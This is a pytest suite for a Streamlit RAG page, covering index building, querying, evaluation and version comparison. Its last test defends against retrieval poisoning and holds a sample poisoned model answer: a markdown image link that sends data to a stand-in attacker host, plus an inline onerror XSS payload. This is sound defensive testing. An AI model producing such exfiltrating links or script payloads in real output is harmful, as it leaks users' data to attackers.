"""The RAG page: build in the background, query with and without an answer, evaluate, compare."""

import threading
import time

import pytest
from streamlit.testing.v1 import AppTest

from workbench import embeddings, prompts
from workbench.jobs import queue, worker
from workbench.rag import index

PAGE = "../../pages/7_RAG.py"


@pytest.fixture(autouse=True)
def hashing():
    with embeddings.use_embedder(embeddings.hashing_embedder()):
        yield


def texts(elements) -> str:
    return "\n".join(str(e.value) for e in elements)


def test_empty_page_explains_what_to_do():
    at = AppTest.from_file(PAGE, default_timeout=30).run()
    assert not at.exception
    assert "No ready index yet" in texts(at.info)
    assert "at least two index versions" in texts(at.info)


def test_build_the_sample_corpus_in_the_background_then_query():
    at = AppTest.from_file(PAGE, default_timeout=30).run()
    at.text_input(key="rag_name").set_value("support")
    at.number_input(key="rag_chunk_size").set_value(400)
    at.button(key="rag_build").click().run()
    assert not at.exception
    version_id = at.session_state["rag_building"]
    assert index.progress(version_id)["status"] == "building"  # queued: a worker builds it
    assert worker.drain() == 1
    assert index.progress(version_id)["status"] == "ready"
    at.run()
    assert "support@1 is ready" in texts(at.success)
    versions = at.dataframe[0].value
    assert versions.loc[0, "index"] == "support" and versions.loc[0, "status"] == "ready"
    assert versions.loc[0, "chunk_size"] == 400 and versions.loc[0, "documents"] == 33
    at.text_input(key="rag_question").set_value("Annual plans can be refunded in full within 14 days")
    at.number_input(key="rag_query_k").set_value(3)
    at.button(key="rag_search").click().run()
    assert not at.exception
    chunks = at.dataframe[1].value
    assert len(chunks) == 3 and chunks.loc[0, "doc_id"] == "billing-invoices-refunds.md"
    assert list(chunks.columns) == ["rank", "score", "doc_id", "start", "end", "text"]
    assert len(at.expander) == 3 and at.expander[0].label.startswith("#1 billing-invoices-refunds.md [")
    assert at.expander[0].text[0].value == chunks.loc[0, "text"]  # the whole chunk, untruncated


def test_upload_with_a_broken_pdf_names_the_skipped_file():
    at = AppTest.from_file(PAGE, default_timeout=30).run()
    at.radio(key="rag_source").set_value("Upload files").run()
    at.button(key="rag_build").click().run()
    assert "Upload at least one file" in texts(at.error)
    version = queue.submit_index("up", [("a.md", b"# A\n\nApples.\n"), ("broken.pdf", b"%PDF-1.4 junk")])
    assert worker.drain() == 1
    at.session_state["rag_building"] = version.id
    at.run()
    assert "up@1 is ready" in texts(at.success)
    assert "broken.pdf" in texts(at.warning)


def test_refused_builds_say_why(monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    at = AppTest.from_file(PAGE, default_timeout=30).run()
    at.text_input(key="rag_embedding").set_value("openai/text-embedding-3-small")
    at.button(key="rag_build").click().run()
    assert "needs OPENAI_API_KEY" in texts(at.error)
    at.text_input(key="rag_name").set_value("bad@name")
    at.text_input(key="rag_embedding").set_value(index.DEFAULT_EMBEDDING_MODEL)
    at.button(key="rag_build").click().run()
    assert "without '@'" in texts(at.error)


def test_answer_with_a_rag_prompt(fake_model):
    index.build_index("docs", "sample")
    prompts.save_version("rag", template="Context:\n{{ context }}\nQuestion: {{ question }}", model="fake/model")
    fake_model.queue("Within 14 days.")
    at = AppTest.from_file(PAGE, default_timeout=30).run()
    at.selectbox(key="rag_query_prompt").set_value("rag@1")
    at.text_input(key="rag_question").set_value("When can annual plans be refunded?")
    at.button(key="rag_search").click().run()
    assert not at.exception
    assert "Within 14 days." in [c.value for c in at.code]
    assert "Question: When can annual plans be refunded?" in fake_model.history[0]["messages"][0]["content"]


def test_evaluate_and_compare_two_versions():
    index.build_index("docs", "sample", chunk_size=256, overlap=32)
    index.build_index("docs", "sample", chunk_size=800, overlap=100)
    at = AppTest.from_file(PAGE, default_timeout=60).run()
    at.selectbox(key="rag_eval_index").set_value("docs@1")
    at.button(key="rag_eval_run").click().run()
    assert not at.exception
    summary = at.dataframe[1].value
    assert list(summary["metric"]) == ["hit_rate", "precision", "recall", "mrr", "ndcg"]
    assert summary.loc[0, "n"] == 63 and summary.loc[0, "skipped"] == 3
    per_row = at.dataframe[2].value
    assert len(per_row) == 66 and "hit_rate" in per_row.columns
    assert at.selectbox(key="rag_cmp_a").value == "docs@1" and at.selectbox(key="rag_cmp_b").value == "docs@2"
    at.button(key="rag_cmp_run").click().run()
    assert not at.exception
    verdicts = texts(at.markdown)
    for metric in ("hit_rate", "precision", "recall", "mrr", "ndcg"):
        assert f"on {metric} (" in verdicts
    compared = at.dataframe[4].value
    assert set(compared["metric"]) == {"hit_rate", "precision", "recall", "mrr", "ndcg"}
    assert {"docs@1", "docs@2", "diff", "p_value"} <= set(compared.columns)


def test_progress_bar_while_the_build_runs():
    release = threading.Event()
    base = embeddings.hashing_embedder()

    def slow(texts, model=""):
        release.wait(30)
        return base(texts, model)

    with embeddings.use_embedder(slow):
        at = AppTest.from_file(PAGE, default_timeout=30).run()
        at.button(key="rag_build").click().run()
        version_id = at.session_state["rag_building"]
        builder = threading.Thread(target=worker.drain)  # the worker, here in a thread
        builder.start()
        deadline = time.monotonic() + 20
        while index.progress(version_id)["message"] != "embedding" and time.monotonic() < deadline:
            time.sleep(0.05)
        at.run()
        bars = [p.proto.text for p in at.get("progress")]
        assert any("docs@1 building: 0/" in text and "embedding" in text for text in bars)
        assert builder.is_alive()
        release.set()
        builder.join(30)
    at.run()
    assert "docs@1 is ready" in texts(at.success)


def test_a_poisoned_answer_is_shown_as_text_not_markdown(fake_model):
    # issue 17: a document can make the model emit an image whose URL carries data out
    index.build_index("docs", "sample")
    prompts.save_version("rag", template="Context:\n{{ context }}\nQuestion: {{ question }}", model="fake/model")
    poisoned = "Sure. ![](http://attacker.example/?d=refund-policy) <img src=x onerror=alert(1)>"
    fake_model.queue(poisoned)
    at = AppTest.from_file(PAGE, default_timeout=30).run()
    at.selectbox(key="rag_query_prompt").set_value("rag@1")
    at.text_input(key="rag_question").set_value("When can annual plans be refunded?")
    at.button(key="rag_search").click().run()
    assert not at.exception
    assert poisoned in [c.value for c in at.code]
    assert not any("attacker.example" in m.value for m in at.markdown)
